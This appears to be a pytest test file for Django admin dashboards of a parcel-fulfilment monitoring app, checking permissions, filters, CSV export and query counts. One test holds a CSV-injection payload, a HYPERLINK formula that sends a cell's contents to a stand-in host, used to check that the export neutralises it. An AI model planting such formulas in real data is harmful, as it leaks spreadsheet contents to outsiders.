import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from fulfillment.models import Platform
from fulfillment.tests.factories import CarrierOutletFactory, OrderFactory, ParcelFactory, ShopFactory
from monitoring.models import AlertKind, AlertLevel
from monitoring.tests.factories import AlertFactory
from monitoring.views import PAGE_SIZE

pytestmark = pytest.mark.django_db

PAGES = ["admin:dashboard_overview", "admin:dashboard_stalled", "admin:dashboard_shops", "admin:dashboard_outlets"]


def alert_for(shop, *, kind=AlertKind.STAGNATION, level=AlertLevel.OVERDUE, tracking_no=None, **alert_fields):
    order = OrderFactory(shop=shop, paid_at=timezone.now() - datetime.timedelta(days=4))
    parcel_fields = {"tracking_no": tracking_no} if tracking_no else {}
    parcel = ParcelFactory(order=order, shipped=True, **parcel_fields)
    return AlertFactory(parcel=parcel, kind=kind, level=level, **alert_fields)


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


@pytest.mark.parametrize("name", PAGES)
def test_anonymous_users_are_sent_to_the_admin_login(client, name):
    url = reverse(name)
    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
    assert "next=" in response["Location"]


@pytest.mark.parametrize("name", PAGES)
def test_warehouse_clerks_are_refused(warehouse_client, name):
    assert warehouse_client.get(reverse(name)).status_code == 403


def test_warehouse_clerks_are_refused_the_csv_export(warehouse_client):
    assert warehouse_client.get(reverse("admin:dashboard_stalled"), {"format": "csv"}).status_code == 403


@pytest.mark.parametrize("name", PAGES)
def test_managers_see_every_dashboard_in_the_admin_frame(manager_client, name):
    ShopFactory(code="s1")
    response = manager_client.get(reverse(name))

    assert response.status_code == 200
    content = response.content.decode()
    assert 'id="site-name"' in content  # the admin header: the page extends admin/base_site.html
    assert "<script src=\"http" not in content  # nothing fetched from the internet


def test_admin_index_links_dashboards_for_managers_only(manager_user, warehouse_user):
    dashboard_url = reverse("admin:dashboard_overview")
    manager, clerk = Client(), Client()
    manager.force_login(manager_user)
    clerk.force_login(warehouse_user)

    assert f'href="{dashboard_url}"' in manager.get(reverse("admin:index")).content.decode()
    assert f'href="{dashboard_url}"' not in clerk.get(reverse("admin:index")).content.decode()


def test_overview_shows_counts_compensation_and_chart(manager_client):
    shop = ShopFactory(code="s1")
    alert_for(shop, kind=AlertKind.PICKUP_OVERDUE, compensation_estimate=Decimal("12.50"))
    alert_for(shop, kind=AlertKind.PICKUP_OVERDUE, level=AlertLevel.WARNING, compensation_estimate=Decimal("7.50"))
    alert_for(shop, due_at=timezone.now() + datetime.timedelta(hours=2), tracking_no="DUESOON1")

    response = manager_client.get(reverse("admin:dashboard_overview"))

    content = response.content.decode()
    assert response.context["overview"].total_open == 3
    assert "¥20.00" in content
    assert "DUESOON1" in content
    assert "<svg" in content and "<rect" in content


def test_stalled_page_filters_links_parcels_and_shows_local_times(manager_client):
    shop_a, shop_b = ShopFactory(code="a", platform=Platform.TMALL), ShopFactory(code="b", platform=Platform.TAOBAO)
    due = datetime.datetime(2026, 6, 1, 16, 30, tzinfo=datetime.UTC)  # 06-02 00:30 in Shanghai
    shown = alert_for(shop_a, tracking_no="SHOWN01", due_at=due)
    alert_for(shop_b, tracking_no="HIDDEN01")

    response = manager_client.get(reverse("admin:dashboard_stalled"), {"shop": shop_a.pk, "level": "overdue"})

    content = response.content.decode()
    assert "SHOWN01" in content and "HIDDEN01" not in content
    assert reverse("admin:fulfillment_parcel_change", args=[shown.parcel_id]) in content
    assert "2026-06-02 00:30" in content


def test_stalled_page_paginates_without_counting(manager_client):
    shop = ShopFactory(code="a")
    for _ in range(PAGE_SIZE + 1):
        alert_for(shop)

    first = manager_client.get(reverse("admin:dashboard_stalled"))
    second = manager_client.get(reverse("admin:dashboard_stalled"), {"page": 2})

    assert len(first.context["page"].rows) == PAGE_SIZE and first.context["page"].has_next
    assert 'rel="next"' in first.content.decode()
    assert len(second.context["page"].rows) == 1 and not second.context["page"].has_next


def test_csv_export_has_exactly_the_filtered_rows(manager_client):
    shop_a, shop_b = ShopFactory(code="a"), ShopFactory(code="b")
    wanted = {alert_for(shop_a, kind=AlertKind.STAGNATION).parcel.tracking_no for _ in range(3)}
    alert_for(shop_a, kind=AlertKind.PICKUP_OVERDUE)
    alert_for(shop_b, kind=AlertKind.STAGNATION)
    alert_for(shop_a, kind=AlertKind.STAGNATION, resolved_at=timezone.now())

    response = manager_client.get(reverse("admin:dashboard_stalled"), {"shop": shop_a.pk, "kind": "stagnation", "format": "csv"})

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header[0] == "tracking number"
    assert {row[0] for row in rows} == wanted
    assert len(rows) == 3
    assert {row[header.index("kind")] for row in rows} == {"stagnation"}
    # Times carry the Shanghai offset.
    assert all(row[header.index("due at")].endswith("+08:00") for row in rows)


def test_csv_export_rows_equal_the_page_rows(manager_client):
    shop = ShopFactory(code="a")
    for i in range(5):
        alert_for(shop, level=AlertLevel.WARNING if i % 2 else AlertLevel.OVERDUE)

    page = manager_client.get(reverse("admin:dashboard_stalled"), {"level": "warning"})
    export = manager_client.get(reverse("admin:dashboard_stalled"), {"level": "warning", "format": "csv"})

    _header, *rows = csv_rows(export)
    assert sorted(row[0] for row in rows) == sorted(a.parcel.tracking_no for a in page.context["page"].rows)


def test_shop_indicators_page_shows_rates_against_target(manager_client):
    shop = ShopFactory(code="a", platform=Platform.TMALL)
    today = timezone.localdate()
    paid = timezone.make_aware(datetime.datetime.combine(today - datetime.timedelta(days=3), datetime.time(9)))
    for hours in (10, 60):  # one within 48 h, one not
        ParcelFactory(
            order=OrderFactory(shop=shop, paid_at=paid), shipped=True, picked_up_at=paid + datetime.timedelta(hours=hours)
        )

    response = manager_client.get(reverse("admin:dashboard_shops"), {"shop": shop.pk})

    content = response.content.decode()
    assert response.status_code == 200
    assert response.context["indicators"].total.pickup_rate == Decimal("0.5")
    assert "50.0%" in content
    assert "95.0%" in content  # Tmall's target
    assert "below-target" in content


def test_shop_indicators_page_shows_todays_parcels_as_pending(manager_client):
    shop = ShopFactory(code="a", platform=Platform.TMALL)
    ParcelFactory(order=OrderFactory(shop=shop, paid_at=timezone.now() - datetime.timedelta(hours=1)), shipped=True)

    content = manager_client.get(reverse("admin:dashboard_shops"), {"shop": shop.pk}).content.decode()

    assert 'id="period-pickup-rate">pending<' in content
    assert "0.0%" not in content  # not a collapse of the pickup rate


def test_indicators_refuse_a_reversed_period(manager_client):
    shop = ShopFactory(code="a")
    response = manager_client.get(
        reverse("admin:dashboard_shops"), {"shop": shop.pk, "date_from": "2026-06-10", "date_to": "2026-06-01"}
    )

    assert response.status_code == 200
    assert "The start of the period is after its end." in response.content.decode()
    assert "indicators" not in response.context


def test_outlet_scorecards_page_lists_outlets_with_stars(manager_client):
    shop = ShopFactory(code="a")
    outlet = CarrierOutletFactory(code="HZ9", name="余杭网点", star_rating=4)
    paid = timezone.now() - datetime.timedelta(days=2)
    ParcelFactory(
        order=OrderFactory(shop=shop, paid_at=paid), shipped=True, outlet=outlet,
        picked_up_at=paid + datetime.timedelta(hours=5),
    )

    response = manager_client.get(reverse("admin:dashboard_outlets"), {"shop": shop.pk})

    content = response.content.decode()
    assert "余杭网点" in content
    assert "★★★★☆" in content
    assert "100.0%" in content


@pytest.mark.parametrize("name", PAGES)
def test_query_count_does_not_grow_with_rows(manager_client, django_assert_max_num_queries, name):
    """The same number of queries for 3 or 30 alerts and parcels: nothing is fetched row by row."""
    shop = ShopFactory(code="a")
    outlet = CarrierOutletFactory()
    for i in range(30):
        alert = alert_for(shop, kind=[AlertKind.STAGNATION, AlertKind.PICKUP_OVERDUE][i % 2])
        alert.parcel.outlet = CarrierOutletFactory() if i % 3 else outlet
        alert.parcel.picked_up_at = alert.parcel.paid_at + datetime.timedelta(hours=i)
        alert.parcel.save()
    with django_assert_max_num_queries(12):
        response = manager_client.get(reverse(name), {"shop": shop.pk} if name != "admin:dashboard_stalled" else {})
    assert response.status_code == 200


def test_csv_export_query_count_is_bounded(manager_client, django_assert_max_num_queries):
    shop = ShopFactory(code="a")
    for _ in range(30):
        alert_for(shop)
    with django_assert_max_num_queries(8):
        response = manager_client.get(reverse("admin:dashboard_stalled"), {"format": "csv"})
        rows = csv_rows(response)
    assert len(rows) == 31


def test_csv_export_neutralises_formula_leading_text(manager_client):
    """OWASP CSV injection: an imported order id or city never reaches a spreadsheet as a formula."""
    alert = alert_for(ShopFactory(code="a"))
    order = alert.parcel.order
    order.order_id, order.dest_city, order.dest_province = '=HYPERLINK("http://x/?"&B2,"Claim")', "@SUM(1+1)", "+1+2"
    order.save()

    header, row = csv_rows(manager_client.get(reverse("admin:dashboard_stalled"), {"format": "csv"}))

    assert row[header.index("order id")] == '\'=HYPERLINK("http://x/?"&B2,"Claim")'
    assert row[header.index("destination")] == "'+1+2 @SUM(1+1)"


@pytest.mark.parametrize(
    "params",
    [{"shop": "abc"}, {"level": "bogus"}, {"kind": "nope"}, {"min_hours": "99999999"}, {"due_within_hours": "-1"}],
)
def test_an_invalid_filter_is_an_error_never_a_wider_result(manager_client, params):
    alert_for(ShopFactory(code="a"))

    page = manager_client.get(reverse("admin:dashboard_stalled"), params)
    export = manager_client.get(reverse("admin:dashboard_stalled"), {**params, "format": "csv"})

    assert page.status_code == 200
    assert page.context["filter"].errors
    assert page.context["page"].rows == []
    assert export.status_code == 400
    assert "The export was not made" in export.content.decode()


def test_absurd_page_numbers_and_dates_answer_a_page(manager_client):
    alert_for(ShopFactory(code="a"))
    assert manager_client.get(reverse("admin:dashboard_stalled"), {"page": "99999999999999999999"}).status_code == 200
    for url in ("admin:dashboard_shops", "admin:dashboard_outlets"):
        for dates in ({"date_from": "0001-01-01"}, {"date_to": "9999-12-31"}, {"date_from": "9999-12-31", "date_to": "9999-12-31"}):
            response = manager_client.get(reverse(url), dates)
            assert response.status_code == 200
            assert response.context["form"].errors


def test_overview_lists_unreviewed_order_spikes_of_the_users_shops(manager_client, manager_user):
    from monitoring.models import ShopAlert

    mine, other = ShopFactory(code="lz-mine", name="Mine Lazada"), ShopFactory(code="lz-other", name="Other Lazada")
    now = timezone.now()
    ShopAlert.objects.create(shop=mine, day=datetime.date(2026, 3, 20), orders=412, median=Decimal("31.5"), raised_at=now)
    ShopAlert.objects.create(shop=other, day=datetime.date(2026, 3, 19), orders=999, median=Decimal("20"), raised_at=now)
    ShopAlert.objects.create(
        shop=mine, day=datetime.date(2026, 3, 10), orders=777, median=Decimal("20"), raised_at=now, resolved_at=now
    )

    content = manager_client.get(reverse("admin:dashboard_overview")).content.decode()
    assert "2026-03-20" in content and ">412<" in content and ">31.5<" in content
    assert "Other Lazada" in content  # a manager limited to no shop sees every shop
    assert "2026-03-10" not in content  # reviewed

    mine.members.add(manager_user)
    content = manager_client.get(reverse("admin:dashboard_overview")).content.decode()
    assert "Mine Lazada" in content and "Other Lazada" not in content
